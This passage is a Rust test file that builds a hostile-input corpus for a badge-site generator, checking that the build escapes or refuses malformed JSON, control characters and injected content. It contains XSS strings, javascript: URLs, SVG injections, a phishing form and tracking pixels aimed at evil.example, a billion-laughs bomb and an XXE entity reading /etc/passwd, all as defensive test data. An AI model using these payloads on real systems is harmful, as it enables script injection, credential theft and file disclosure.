//! The hostile-input corpus. Each case changes one thing in a copy of
//! `tests/fixtures/hostile` the way an attacker, a broken export or a
//! careless pull request would, and states the exact outcome:
//!
//! - `refused`: the build stops with exactly these error codes, the first
//!   naming the file and where in it; nothing is written.
//! - `built`: the site builds with exactly these warning codes, every output
//!   file passes the audit (`common/audit.rs`: no injected element, attribute,
//!   script or URL, a CSP on every page, no recipient email anywhere), hostile
//!   text is shown as text where asked, the site folder is unchanged and
//!   nothing is written beside the output folder.
//!
//! Every case runs the loader, the checks and (when the site loads) the
//! renderer under `catch_unwind`, so a panic fails the case with its name.
//! Run `cargo test --test suite hostile:: -- --nocapture` for the counts per category.

use crate::common::audit::{audit, visible_text};
use crate::common::*;
use serde_json::{json, Value};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::Arc;

const B: &str = "https://hostile.example/badges/";
const CONFIG: &str = "accolade.toml";
const ISSUER: &str = "issuers/acme.json";
const BADGE: &str = "badges/skill.json";
const BADGE_SVG: &str = "badges/skill.svg";
const CRITERIA_MD: &str = "badges/skill.md";
const AWARD: &str = "assertions/ada-skill.json";
const OTHER_AWARD: &str = "assertions/bob-skill.json";
const REVOCATIONS: &str = "revocations.json";
/// The recipients of the fixture's two awards: never in any output file.
const EMAILS: [&str; 2] = ["ada@example.net", "bob@example.org"];

type Setup = Arc<dyn Fn(&Path) + Send + Sync>;

enum Expect {
    Refused { codes: Vec<&'static str>, file: &'static str, at: Option<String> },
    Built { warnings: Vec<&'static str>, shown: Option<String> },
}

struct Case {
    category: &'static str,
    name: String,
    setup: Setup,
    expect: Expect,
}

fn refused(
    category: &'static str,
    name: impl Into<String>,
    setup: Setup,
    codes: &[&'static str],
    file: &'static str,
    at: Option<&str>,
) -> Case {
    let expect = Expect::Refused { codes: codes.to_vec(), file, at: at.map(str::to_string) };
    Case { category, name: name.into(), setup, expect }
}

fn built(
    category: &'static str,
    name: impl Into<String>,
    setup: Setup,
    warnings: &[&'static str],
    shown: Option<&str>,
) -> Case {
    let expect = Expect::Built { warnings: warnings.to_vec(), shown: shown.map(str::to_string) };
    Case { category, name: name.into(), setup, expect }
}

// ---------------------------------------------------------------- setups

/// Replaces a file's bytes.
fn write(rel: &'static str, bytes: impl Into<Vec<u8>>) -> Setup {
    let bytes = bytes.into();
    Arc::new(move |site: &Path| std::fs::write(site.join(rel), &bytes).unwrap())
}

/// Changes a file's text.
fn text(rel: &'static str, change: impl Fn(String) -> String + Send + Sync + 'static) -> Setup {
    Arc::new(move |site: &Path| {
        let old = std::fs::read_to_string(site.join(rel)).unwrap();
        std::fs::write(site.join(rel), change(old)).unwrap();
    })
}

/// Changes a JSON file.
fn edit(rel: &'static str, change: impl Fn(&mut Value) + Send + Sync + 'static) -> Setup {
    Arc::new(move |site: &Path| {
        let path = site.join(rel);
        let mut v: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        change(&mut v);
        std::fs::write(&path, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
    })
}

/// Sets the value at a JSON pointer, creating objects on the way.
fn set(rel: &'static str, pointer: &'static str, value: Value) -> Setup {
    edit(rel, move |v| *json_pointer_mut(v, pointer) = value.clone())
}

/// Removes a key.
fn remove(rel: &'static str, pointer: &'static str) -> Setup {
    edit(rel, move |v| {
        let (parent, key) = pointer.rsplit_once('/').unwrap();
        json_pointer_mut(v, parent).as_object_mut().unwrap().remove(key);
    })
}

/// Sets a key of `accolade.toml`.
fn config(key: &'static str, value: toml::Value) -> Setup {
    Arc::new(move |site: &Path| {
        let path = site.join(CONFIG);
        let mut table: toml::Table = std::fs::read_to_string(&path).unwrap().parse().unwrap();
        let (section, key) = match key.split_once('.') {
            Some((s, k)) => (Some(s), k),
            None => (None, key),
        };
        let target = match section {
            Some(s) => table.entry(s).or_insert(toml::Value::Table(Default::default())).as_table_mut().unwrap(),
            None => &mut table,
        };
        target.insert(key.to_string(), value.clone());
        std::fs::write(&path, toml::to_string(&table).unwrap()).unwrap();
    })
}

#[cfg(unix)]
fn symlink(target: PathBuf, link: &'static str) -> Setup {
    Arc::new(move |site: &Path| std::os::unix::fs::symlink(&target, site.join(link)).unwrap())
}

// ---------------------------------------------------------------- the corpus

/// Text fields that reach a page: file, JSON pointer (or TOML key), whether
/// the field is Markdown, and the warnings the fixture gains when it is set.
struct TextField {
    file: &'static str,
    at: &'static str,
    markdown: bool,
}

const TEXT_FIELDS: &[TextField] = &[
    TextField { file: CONFIG, at: "title", markdown: false },
    TextField { file: CONFIG, at: "description", markdown: false },
    TextField { file: ISSUER, at: "/name", markdown: false },
    TextField { file: ISSUER, at: "/description", markdown: true },
    TextField { file: BADGE, at: "/name", markdown: false },
    TextField { file: BADGE, at: "/description", markdown: true },
    TextField { file: CRITERIA_MD, at: "", markdown: true },
    TextField { file: BADGE, at: "/tags/0", markdown: false },
    TextField { file: BADGE, at: "/alignment/0/targetName", markdown: false },
    TextField { file: BADGE, at: "/alignment/0/targetDescription", markdown: false },
    TextField { file: BADGE, at: "/alignment/0/targetFramework", markdown: false },
    TextField { file: BADGE, at: "/alignment/0/targetCode", markdown: false },
    TextField { file: AWARD, at: "/extensions:recipientProfile/name", markdown: false },
    TextField { file: AWARD, at: "/narrative", markdown: true },
    TextField { file: AWARD, at: "/evidence/0/name", markdown: false },
    TextField { file: AWARD, at: "/evidence/0/description", markdown: false },
    TextField { file: AWARD, at: "/evidence/0/narrative", markdown: true },
    TextField { file: AWARD, at: "/evidence/0/genre", markdown: false },
    TextField { file: AWARD, at: "/evidence/0/audience", markdown: false },
    TextField { file: REVOCATIONS, at: "/revokedAssertions/0/revocationReason", markdown: false },
];

fn field(file: &str, at: &str) -> &'static TextField {
    TEXT_FIELDS.iter().find(|f| f.file == file && f.at == at).unwrap()
}

impl TextField {
    fn label(&self) -> String {
        if self.at.is_empty() {
            self.file.to_string()
        } else {
            format!("{} {}", self.file, self.at)
        }
    }

    fn set(&self, value: &str) -> Setup {
        let value = value.to_string();
        match (self.file, self.at) {
            (CONFIG, key) => config(key, toml::Value::String(value)),
            (file, "") => write(file, value),
            (file, at) => set(file, at, Value::String(value)),
        }
    }
}

/// Payloads that try to leave the text they are put in. Each marks what it
/// injects with `pwn`, which the audit looks for; the second item is what a
/// Markdown field shows (entities decoded), `None` when it is the payload.
const XSS: &[(&str, Option<&str>)] = &[
    ("<script>pwn()</script>", None),
    ("\"><img src=x onerror=pwn()>", None),
    ("'><pwn-tag data-pwn=1>", None),
    ("</title></textarea></script><pwn-tag>", None),
    ("{{ 7777 * 7 }} {% if true %}pwn{% endif %}", None),
    ("]]><script>pwn()</script><![CDATA[", None),
    ("&lt;pwn-tag&gt; &amp; &#60;pwn-tag&#62;", Some("<pwn-tag> & <pwn-tag>")),
    ("<svg><pwn-svg onload=pwn()></svg>", None),
];

/// URLs that must never become a link or an image source.
const BAD_URLS: &[&str] = &[
    "javascript:pwn()",
    " JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "//evil.example/pwn",
    "\\\\evil.example\\pwn",
];

fn corpus() -> Vec<Case> {
    let mut cases = Vec::new();
    malformed_json(&mut cases);
    wrong_types(&mut cases);
    empty_values(&mut cases);
    huge_values(&mut cases);
    control_characters(&mut cases);
    xss(&mut cases);
    urls(&mut cases);
    markdown(&mut cases);
    svg_images(&mut cases);
    unsafe_ids(&mut cases);
    constrained_values(&mut cases);
    symlinks(&mut cases);
    privacy(&mut cases);
    hostile_config(&mut cases);
    cases
}

fn malformed_json(cases: &mut Vec<Case>) {
    let c = "malformed JSON";
    let r = |name: &str, setup: Setup, codes: &[&'static str], file: &'static str, at: Option<&str>| {
        refused(c, name, setup, codes, file, at)
    };
    let award_text = |change: fn(String) -> String| text(AWARD, change);
    cases.push(r("truncated", award_text(|s| s[..s.len() / 2].to_string()), &["json.syntax"], AWARD, Some("15:")));
    cases.push(r(
        "trailing comma in an object",
        text(ISSUER, |s| s.replacen("badges/assertions/\"", "badges/assertions/\",", 1)),
        &["json.syntax"],
        ISSUER,
        Some("13:"),
    ));
    cases.push(r(
        "two commas in a row",
        award_text(|s| {
            s.replacen("\"issuedOn\": \"2026-03-01T10:00:00Z\"", "\"issuedOn\": \"2026-03-01T10:00:00Z\",", 1)
        }),
        &["json.syntax"],
        AWARD,
        Some("23:"),
    ));
    cases.push(r(
        "trailing comma in an array",
        text(BADGE, |s| s.replacen("\"testing\"", "\"testing\",", 1)),
        &["json.syntax"],
        BADGE,
        Some("14:"),
    ));
    cases.push(r(
        "single quotes",
        award_text(|s| s.replacen("\"type\"", "'type'", 1)),
        &["json.syntax"],
        AWARD,
        Some("3:"),
    ));
    cases.push(r(
        "a comment",
        award_text(|s| s.replacen('{', "{ // issued by hand\n", 1)),
        &["json.syntax"],
        AWARD,
        Some("1:"),
    ));
    cases.push(r(
        "unquoted key",
        award_text(|s| s.replacen("\"type\"", "type", 1)),
        &["json.syntax"],
        AWARD,
        Some("3:"),
    ));
    cases.push(r("NaN", text(BADGE, |s| s.replacen("\"testing\"", "NaN", 1)), &["json.syntax"], BADGE, Some("13:5")));
    cases.push(r("empty file", write(AWARD, ""), &["json.syntax"], AWARD, Some("1:")));
    cases.push(r("only whitespace", write(AWARD, "  \n\n "), &["json.syntax"], AWARD, Some("3:")));
    cases.push(r("null", write(AWARD, "null"), &["json.type"], AWARD, None));
    cases.push(r("an array", write(AWARD, "[]"), &["json.type"], AWARD, None));
    cases.push(r("a string", write(AWARD, "\"Assertion\""), &["json.type"], AWARD, None));
    cases.push(r("two documents", award_text(|s| format!("{s}\n{s}")), &["json.syntax"], AWARD, Some("36:1")));
    cases.push(r(
        "a duplicate key",
        award_text(|s| s.replacen("\"issuedOn\"", "\"issuedOn\": \"2020-01-01T00:00:00Z\",\n  \"issuedOn\"", 1)),
        &["json.duplicate"],
        AWARD,
        Some("24:3"),
    ));
    cases.push(r(
        "invalid UTF-8",
        Arc::new(|site: &Path| {
            let s = std::fs::read(site.join(AWARD)).unwrap();
            let s = String::from_utf8(s).unwrap().replacen("Ada Lovelace", "Ada \u{1}Lovelace", 1).into_bytes();
            let s: Vec<u8> = s.into_iter().map(|b| if b == 1 { 0xff } else { b }).collect();
            std::fs::write(site.join(AWARD), s).unwrap();
        }),
        &["json.utf8"],
        AWARD,
        Some("17:18"),
    ));
    cases.push(r(
        "UTF-16 with a byte order mark",
        Arc::new(|site: &Path| {
            let s = std::fs::read_to_string(site.join(AWARD)).unwrap();
            let mut bytes = vec![0xff, 0xfe];
            bytes.extend(s.encode_utf16().flat_map(|u| u.to_le_bytes()));
            std::fs::write(site.join(AWARD), bytes).unwrap();
        }),
        &["json.utf8"],
        AWARD,
        Some("1:1"),
    ));
    cases.push(r(
        "a NUL byte",
        award_text(|s| s.replacen("\"type\"", "\"ty\0pe\"", 1)),
        &["json.syntax"],
        AWARD,
        Some("3:"),
    ));
    cases.push(r(
        "a lone surrogate escape",
        award_text(|s| s.replacen("Ada Lovelace", "Ada \\ud800", 1)),
        &["json.syntax"],
        AWARD,
        Some("17:"),
    ));
    cases.push(r(
        "a number out of range",
        text(BADGE, |s| s.replacen("\"testing\"", "1e400", 1)),
        &["json.syntax"],
        BADGE,
        Some("13:5"),
    ));
    cases.push(r(
        "50 MB",
        award_text(|s| s.replacen("Ada Lovelace", &"A".repeat(50 << 20), 1)),
        &["file.size"],
        AWARD,
        None,
    ));
    cases.push(r(
        "nested 10,000 deep",
        award_text(|s| s.replacen("\"Ada Lovelace\"", &format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)), 1)),
        &["json.syntax"],
        AWARD,
        Some("17:"),
    ));
    cases.push(r(
        "nested 10,000 deep objects in an unknown property",
        award_text(|s| s.replacen('{', &format!("{{\"x\": {}1{},", "{\"a\":".repeat(10_000), "}".repeat(10_000)), 1)),
        &["json.syntax"],
        AWARD,
        Some("1:"),
    ));
    cases.push(r(
        "malformed revocation list",
        text(REVOCATIONS, |s| s.replacen(']', "],", 1)),
        &["json.syntax"],
        REVOCATIONS,
        None,
    ));
    cases.push(r(
        "malformed issuer",
        text(ISSUER, |s| s.replacen("\"name\":", "\"name\"", 1)),
        &["json.syntax"],
        ISSUER,
        Some("5:"),
    ));
    cases.push(r(
        "malformed accolade.toml",
        text(CONFIG, |s| s.replacen("title = ", "title = \"", 1)),
        &["config.syntax"],
        CONFIG,
        Some("3:"),
    ));
    // Accepted as they are: a byte order mark and Windows line endings.
    cases.push(built(c, "a UTF-8 byte order mark", award_text(|s| format!("\u{feff}{s}")), &[], Some("Ada Lovelace")));
    cases.push(built(c, "CRLF line endings", award_text(|s| s.replace('\n', "\r\n")), &[], Some("Ada Lovelace")));
    cases.push(r(
        "CRLF line endings and a syntax error: the line is still right",
        award_text(|s| s.replace('\n', "\r\n").replacen("\"type\"", "type", 1)),
        &["json.syntax"],
        AWARD,
        Some("3:"),
    ));
}

fn wrong_types(cases: &mut Vec<Case>) {
    let c = "wrong types";
    let list: &[(&'static str, &'static str, Value, &'static str)] = &[
        (AWARD, "/id", json!(7), "json.type"),
        (AWARD, "/type", json!(7), "json.type"),
        (AWARD, "/recipient", json!("ada@example.net"), "json.type"),
        (AWARD, "/recipient/identity", json!(7), "json.type"),
        (AWARD, "/recipient/hashed", json!("yes"), "json.type"),
        (AWARD, "/recipient/salt", json!(7), "json.type"),
        (AWARD, "/badge", json!(7), "json.type"),
        (AWARD, "/verification", json!(7), "json.type"),
        (AWARD, "/issuedOn", json!(1_700_000_000), "json.type"),
        (AWARD, "/expires", json!(true), "json.type"),
        (AWARD, "/evidence", json!(7), "json.type"),
        (AWARD, "/evidence/0/narrative", json!(["a"]), "json.type"),
        (AWARD, "/evidence/0/id", json!({"a": 1}), "json.type"),
        (AWARD, "/narrative", json!(false), "json.type"),
        (AWARD, "/image", json!(7), "json.type"),
        (AWARD, "/revoked", json!("true"), "json.type"),
        (AWARD, "/extensions:recipientProfile", json!("Ada"), "json.type"),
        (AWARD, "/extensions:recipientProfile/name", json!(7), "json.type"),
        (BADGE, "/name", json!(7), "json.type"),
        (BADGE, "/description", json!([]), "json.type"),
        (BADGE, "/image", json!(true), "json.type"),
        (BADGE, "/criteria", json!(7), "json.type"),
        (BADGE, "/tags", json!({"a": 1}), "json.type"),
        (BADGE, "/tags/0", json!(1), "json.type"),
        (BADGE, "/alignment", json!("x"), "json.type"),
        (BADGE, "/alignment/0/targetUrl", json!(1), "json.type"),
        (BADGE, "/issuer", json!(7), "json.type"),
        (ISSUER, "/name", json!(7), "json.type"),
        (ISSUER, "/url", json!([]), "json.type"),
        (ISSUER, "/email", json!(7), "json.type"),
        (ISSUER, "/verification", json!("x"), "json.type"),
        (ISSUER, "/revocationList", json!(1), "json.type"),
        (REVOCATIONS, "/revokedAssertions/0/revokedOn", json!(1), "json.type"),
    ];
    for (file, at, value, code) in list {
        let path = json_path_of(at);
        cases.push(refused(
            c,
            format!("{file} {at} = {value}"),
            set(file, at, value.clone()),
            &[code],
            file,
            Some(&path),
        ));
    }
}

/// `/evidence/0/name` → `evidence[0].name`, as problems name places.
fn json_path_of(pointer: &str) -> String {
    let mut out = String::new();
    for token in pointer.split('/').skip(1) {
        if token.parse::<usize>().is_ok() {
            out.push_str(&format!("[{token}]"));
        } else {
            if !out.is_empty() {
                out.push('.');
            }
            out.push_str(token);
        }
    }
    out
}

fn empty_values(cases: &mut Vec<Case>) {
    let c = "empty values";
    let r = |name: &str, setup: Setup, codes: &[&'static str], file: &'static str, at: Option<&str>| {
        refused(c, name, setup, codes, file, at)
    };
    cases.push(r("empty object", write(AWARD, "{}"), &["required", "type"], AWARD, Some("1:1")));
    cases.push(r("empty id", set(AWARD, "/id", json!("")), &["id.iri", "issuer.policy"], AWARD, Some("id")));
    cases.push(r("empty badge", set(AWARD, "/badge", json!("")), &["ref.badge"], AWARD, Some("badge")));
    cases.push(r(
        "empty recipient",
        set(AWARD, "/recipient", json!({})),
        &["recipient.type", "required"],
        AWARD,
        Some("recipient.type"),
    ));
    cases.push(r(
        "empty identity",
        set(AWARD, "/recipient/identity", json!("")),
        &["recipient.hash"],
        AWARD,
        Some("recipient.identity"),
    ));
    cases.push(r("empty issuedOn", set(AWARD, "/issuedOn", json!("")), &["date.format"], AWARD, Some("issuedOn")));
    cases.push(r("empty badge name", set(BADGE, "/name", json!("")), &["required"], BADGE, Some("name")));
    cases.push(r("empty issuer name", set(ISSUER, "/name", json!("")), &["required"], ISSUER, Some("name")));
    cases.push(r("empty issuer url", set(ISSUER, "/url", json!("")), &["url.scheme"], ISSUER, Some("url")));
    cases.push(r("empty badge image", set(BADGE, "/image", json!("")), &["url.scheme"], BADGE, Some("image")));
    cases.push(built(c, "empty evidence list", set(AWARD, "/evidence", json!([])), &[], Some("Ada Lovelace")));
    cases.push(built(c, "empty tags", set(BADGE, "/tags", json!([])), &[], Some("A Skill")));
    cases.push(built(c, "empty alignment", set(BADGE, "/alignment", json!([])), &[], Some("A Skill")));
    cases.push(built(c, "empty recipient name", set(AWARD, "/extensions:recipientProfile/name", json!("")), &[], None));
    cases.push(built(c, "empty narrative", set(AWARD, "/evidence/0/narrative", json!("")), &[], Some("The project")));
    cases.push(built(c, "empty criteria Markdown", write(CRITERIA_MD, ""), &["badge.criteria"], None));
    cases.push(built(
        c,
        "a revocation list whose entries are one string",
        set(REVOCATIONS, "/revokedAssertions", json!("x")),
        &["revocation.unknown"],
        Some("Bob Builder"),
    ));
    cases.push(built(
        c,
        "empty revocation list",
        set(REVOCATIONS, "/revokedAssertions", json!([])),
        &[],
        Some("Bob Builder"),
    ));
    cases.push(built(
        c,
        "no awards at all",
        Arc::new(|s: &Path| {
            std::fs::remove_file(s.join(AWARD)).unwrap();
            std::fs::remove_file(s.join(OTHER_AWARD)).unwrap();
            edit(REVOCATIONS, |v| v["revokedAssertions"] = json!([]))(s);
        }),
        &[],
        Some("A Skill"),
    ));
}

fn huge_values(cases: &mut Vec<Case>) {
    let c = "huge values";
    let mega = || "Ada ".repeat(1 << 18);
    for f in [
        field(ISSUER, "/name"),
        field(BADGE, "/name"),
        field(AWARD, "/extensions:recipientProfile/name"),
        field(CONFIG, "title"),
    ] {
        cases.push(refused(c, format!("1 MB in {}", f.label()), f.set(&mega()), &["text.length"], f.file, None));
    }
    for f in [field(BADGE, "/description"), field(AWARD, "/evidence/0/narrative"), field(CRITERIA_MD, "")] {
        cases.push(built(c, format!("1 MB of Markdown in {}", f.label()), f.set(&mega()), &[], None));
    }
    cases.push(built(c, "10,000 tags", set(BADGE, "/tags", json!(vec!["tag"; 10_000])), &[], Some("A Skill")));
    cases.push(built(
        c,
        "1,000 evidence items",
        set(AWARD, "/evidence", json!(vec![json!({"id": "https://github.com/ada/p", "name": "P"}); 1000])),
        &[],
        Some("Ada Lovelace"),
    ));
    cases.push(built(
        c,
        "a name of 300 wide characters",
        field(AWARD, "/extensions:recipientProfile/name").set(&"𒀱".repeat(300)),
        &[],
        None,
    ));
}

fn control_characters(cases: &mut Vec<Case>) {
    let c = "control and bidi characters";
    let name = field(AWARD, "/extensions:recipientProfile/name");
    for (label, ch) in [("NUL", '\0'), ("BEL", '\u{7}'), ("ESC", '\u{1b}'), ("DEL", '\u{7f}'), ("C1 CSI", '\u{9b}')] {
        cases.push(built(
            c,
            format!("{label} in a name"),
            name.set(&format!("Ada{ch}[31m Lovelace")),
            &["text.control"],
            None,
        ));
    }
    cases.push(built(
        c,
        "ESC in a badge name",
        field(BADGE, "/name").set("A \u{1b}[2J Skill"),
        &["text.control"],
        None,
    ));
    cases.push(built(c, "a line break in a name", name.set("Ada\nLovelace"), &[], Some("Ada\nLovelace")));
    cases.push(built(
        c,
        "U+FFFF (not allowed in XML) in a badge name",
        field(BADGE, "/name").set("Skill\u{ffff}"),
        &["text.control"],
        None,
    ));
    cases.push(built(c, "U+2028 in a name", name.set("Ada\u{2028}Lovelace"), &[], None));
    for (label, ch) in
        [("RLO", '\u{202e}'), ("RLI", '\u{2067}'), ("PDI", '\u{2069}'), ("RLM", '\u{200f}'), ("ALM", '\u{61c}')]
    {
        cases.push(built(
            c,
            format!("{label} in a name"),
            name.set(&format!("Ada {ch}ecalevoL")),
            &["text.bidi"],
            None,
        ));
    }
    cases.push(built(c, "RLO in a badge name", field(BADGE, "/name").set("Skill \u{202e}lliks"), &["text.bidi"], None));
    cases.push(built(
        c,
        "RLO in an issuer name",
        field(ISSUER, "/name").set("Acme \u{202e}emca"),
        &["text.bidi"],
        None,
    ));
    cases.push(built(c, "zero-width joiner (a real emoji)", name.set("Ada 👩‍💻"), &[], Some("Ada 👩‍💻")));
}

fn xss(cases: &mut Vec<Case>) {
    for field in TEXT_FIELDS {
        for (payload, markdown_shows) in XSS {
            let shown = if field.markdown { markdown_shows.unwrap_or(payload) } else { payload };
            cases.push(built(
                "XSS in text fields",
                format!("{payload} in {}", field.label()),
                field.set(payload),
                &[],
                Some(shown),
            ));
        }
    }
}

fn urls(cases: &mut Vec<Case>) {
    let c = "hostile URLs";
    for url in BAD_URLS {
        let u = Value::String(url.to_string());
        cases.push(built(
            c,
            format!("evidence {url:?}"),
            set(AWARD, "/evidence/0/id", u.clone()),
            &["url.scheme"],
            None,
        ));
        cases.push(built(
            c,
            format!("evidence as a bare URL {url:?}"),
            set(AWARD, "/evidence", u.clone()),
            &["url.scheme"],
            None,
        ));
        cases.push(built(
            c,
            format!("criteria id {url:?}"),
            set(BADGE, "/criteria/id", u.clone()),
            &["url.scheme"],
            None,
        ));
        cases.push(refused(
            c,
            format!("issuer url {url:?}"),
            set(ISSUER, "/url", u.clone()),
            &["url.scheme"],
            ISSUER,
            Some("url"),
        ));
        cases.push(refused(
            c,
            format!("alignment targetUrl {url:?}"),
            set(BADGE, "/alignment/0/targetUrl", u.clone()),
            &["url.scheme"],
            BADGE,
            Some("alignment[0].targetUrl"),
        ));
        let image_code = if url.starts_with("data:") { "image" } else { "url.scheme" };
        cases.push(refused(
            c,
            format!("badge image {url:?}"),
            set(BADGE, "/image", u.clone()),
            &[image_code],
            BADGE,
            Some("image"),
        ));
        cases.push(refused(
            c,
            format!("issuer image {url:?}"),
            set(ISSUER, "/image", u.clone()),
            &[image_code],
            ISSUER,
            Some("image"),
        ));
    }
}

fn markdown(cases: &mut Vec<Case>) {
    let c = "Markdown";
    let md =
        |name: &str, source: &'static str, shown: Option<&str>| built(c, name, write(CRITERIA_MD, source), &[], shown);
    cases.push(md("a script block", "<script>pwn()</script>\n", Some("<script>pwn()</script>")));
    cases.push(md("an iframe", "<iframe src=\"https://evil.example/\"></iframe>\n", Some("<iframe")));
    cases.push(md("an event attribute", "Hi <img src=x onerror=pwn()>\n", Some("<img src=x onerror=pwn()>")));
    cases.push(md("a javascript: link", "[win](javascript:pwn())\n", Some("win")));
    cases.push(md("an entity-encoded javascript: link", "[win](&#106;avascript:pwn())\n", Some("win")));
    cases.push(md("a javascript: autolink", "<javascript:pwn()>\n", None));
    cases.push(md("a reference link to data:", "[win][x]\n\n[x]: data:text/html,pwn\n", Some("win")));
    cases.push(md("a protocol-relative link", "[win](//evil.example/pwn)\n", Some("win")));
    cases.push(md("a remote image", "![tracker](https://evil.example/pixel.png)\n", Some("tracker")));
    cases.push(md("an HTML comment", "a <!-- pwn --> b\n", Some("<!-- pwn -->")));
    cases.push(md("a style block", "<style>body{display:none}</style>\n", Some("<style>")));
    cases.push(md("inline SVG", "<svg onload=pwn()><pwn-svg/></svg>\n", Some("<svg onload=pwn()>")));
    cases.push(md("a form", "<form action=\"https://evil.example\"><input name=pwn></form>\n", Some("<form")));
    cases.push(md(
        "a meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n",
        Some("<meta"),
    ));
    cases.push(md("entities", "&lt;pwn-tag&gt; &amp;amp; &#x3C;b&#x3E;\n", Some("<pwn-tag> &amp; <b>")));
    cases.push(md("a safe link stays", "[the syllabus](https://hostile.example/syllabus)\n", Some("the syllabus")));
}

fn svg_images(cases: &mut Vec<Case>) {
    let c = "SVG images";
    let inject = |name: &str, what: &'static str| {
        refused(
            c,
            name,
            text(BADGE_SVG, move |s| s.replacen("<title>", &format!("{what}<title>"), 1)),
            &["image.unsafe"],
            BADGE,
            Some("image"),
        )
    };
    cases.push(inject("a script element", "<script>pwn()</script>"));
    cases.push(inject(
        "a namespaced script element",
        "<svg:script xmlns:svg=\"http://www.w3.org/2000/svg\">pwn()</svg:script>",
    ));
    cases.push(inject("an onload attribute", "<g onload=\"pwn()\"/>"));
    cases.push(inject("a javascript: link", "<a href=\"javascript:pwn()\"><text>x</text></a>"));
    cases.push(inject(
        "an xlink:href javascript: link",
        "<a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"javascript:pwn()\"/>",
    ));
    cases
        .push(inject("an external image", "<image href=\"https://evil.example/pixel.png\" width=\"1\" height=\"1\"/>"));
    cases.push(inject("an external use", "<use href=\"https://evil.example/sprite.svg#a\"/>"));
    cases.push(inject(
        "foreignObject",
        "<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">pwn</div></foreignObject>",
    ));
    cases.push(inject("a style with an external url", "<style>rect{fill:url(https://evil.example/x)}</style>"));
    cases.push(inject("an animation setting href", "<a><set attributeName=\"href\" to=\"javascript:pwn()\"/></a>"));
    cases.push(inject(
        "an iframe in SVG",
        "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example\"/>",
    ));
    cases.push(refused(
        c,
        "a billion-laughs entity bomb",
        write(
            BADGE_SVG,
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><text>&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;</text></svg>",
        ),
        &["image.unsafe"],
        BADGE,
        Some("image"),
    ));
    cases.push(refused(
        c,
        "an external entity",
        write(
            BADGE_SVG,
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>",
        ),
        &["image.unsafe"],
        BADGE,
        Some("image"),
    ));
    cases.push(refused(
        c,
        "an SVG no object names, with a script (it would be published too)",
        write("badges/notes.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>pwn()</script></svg>"),
        &["image.unsafe"],
        "badges/notes.svg",
        None,
    ));
    cases.push(refused(
        c,
        "an XHTML phishing form named .svg",
        write(
            BADGE_SVG,
            "<?xml version=\"1.0\"?><!-- <svg --><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><form action=\"https://evil.example/\"><input name=\"pw\" type=\"password\"/></form></body></html>",
        ),
        &["image.format"],
        BADGE,
        Some("image"),
    ));
    cases.push(refused(
        c,
        "an xml-stylesheet processing instruction",
        text(BADGE_SVG, |s| s.replacen("<svg ", "<?xml-stylesheet href=\"https://evil.example/x.css\"?>\n<svg ", 1)),
        &["image.unsafe"],
        BADGE,
        Some("image"),
    ));
    cases.push(refused(
        c,
        "a fill that loads from elsewhere",
        text(BADGE_SVG, |s| s.replacen("<title>", "<rect fill=\"url(https://evil.example/p#x)\"/><title>", 1)),
        &["image.unsafe"],
        BADGE,
        Some("image"),
    ));
    cases.push(refused(
        c,
        "HTML named .svg",
        write(BADGE_SVG, "<html><script>pwn()</script></html>"),
        &["image.format"],
        BADGE,
        Some("image"),
    ));
    cases.push(built(
        c,
        "a > and ]]> inside an attribute of the root tag (found by fuzzing: the baked SVG broke)",
        text(BADGE_SVG, |s| s.replacen("version=\"1.1\"", "version=\"1.1\" aria-label=\"0.1 + 0.2 > 0.3 ]]>\"", 1)),
        &[],
        Some("A Skill"),
    ));
    // Issue 13: the blocklist let animations set event handlers; the
    // allowlist refuses them in every spelling, and drops what it cannot keep.
    cases.push(inject("an animation setting onmouseover", "<set attributeName=\"onmouseover\" to=\"pwn()\"/>"));
    cases.push(inject("an animate with onclick values", "<animate attributeName=\"onclick\" values=\"pwn();pwn()\"/>"));
    cases.push(inject("a mixed-case handler target", "<rect><set attributeName=\"ONMouseOver\" to=\"pwn()\"/></rect>"));
    cases.push(inject("a handler target in whitespace", "<set attributeName=\"&#10; onmouseover\t\" to=\"pwn()\"/>"));
    cases.push(inject("a prefixed handler target", "<set attributeName=\"svg:onload\" to=\"pwn()\"/>"));
    cases.push(inject(
        "an xlink:href animation target in a link",
        "<a xmlns:xlink=\"http://www.w3.org/1999/xlink\"><animate attributeName=\"xlink:href\" values=\"#a;https://evil.example/\"/><text>x</text></a>",
    ));
    cases.push(inject(
        "an animation in another namespace",
        "<x:set xmlns:x=\"urn:x\" attributeName=\"onclick\" to=\"pwn()\"/>",
    ));
    cases.push(inject(
        "a style attribute with an external url",
        "<rect style=\"fill: url( 'https://evil.example/p' )\"/>",
    ));
    cases.push(inject(
        "an SVG image inside the SVG",
        "<image href=\"data:image/svg+xml;base64,PHN2Zz4=\" width=\"1\" height=\"1\"/>",
    ));
    cases.push(inject(
        "xml:base pointing elsewhere",
        "<g xml:base=\"https://evil.example/\"><use href=\"#m1-ring\"/></g>",
    ));
    cases.push(refused(
        c,
        "an attribute list adding a handler",
        text(BADGE_SVG, |s| {
            s.replacen("<svg ", "<!DOCTYPE svg [<!ATTLIST circle onclick CDATA \"pwn()\">]>\n<svg ", 1)
        }),
        &["image.unsafe"],
        BADGE,
        Some("image"),
    ));
    cases.push(built(
        c,
